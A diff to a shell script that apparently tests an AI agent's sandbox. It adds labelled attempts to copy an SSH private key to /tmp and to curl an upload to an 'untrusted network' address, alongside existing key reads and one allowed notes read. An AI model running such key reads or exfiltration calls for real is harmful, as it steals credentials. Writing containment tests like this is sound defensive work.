@@ -29,6 +29,8 @@ agent() {
 
 agent "read the SSH key with cat" cat "$key"
 agent "read the SSH key from Python" python3 -c "print(open('$key').read())"
+agent "copy the key somewhere else first" bash -c "cp $key /tmp/k && cat /tmp/k"
+agent "send it to an untrusted network" curl -sS -m 5 http://127.66.0.1:8080/upload
 agent "read the notes (allowed)" cat /home/agent/notes.txt
 
 echo
